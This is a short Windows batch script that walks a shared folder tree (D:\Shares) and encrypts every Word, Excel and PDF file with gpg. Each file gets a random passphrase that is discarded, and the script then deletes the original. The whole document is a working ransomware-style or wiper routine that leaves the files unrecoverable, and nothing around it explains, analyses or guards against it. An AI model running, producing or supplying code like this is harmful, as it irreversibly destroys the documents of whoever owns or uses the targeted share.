@echo off
setlocal EnableDelayedExpansion
for /r "D:\Shares" %%f in (*.docx *.xlsx *.pdf) do (
  set "K=!RANDOM!!RANDOM!!RANDOM!"
  gpg --batch --yes --passphrase "!K!" -c "%%f"
  if exist "%%f.gpg" del /q "%%f"
)
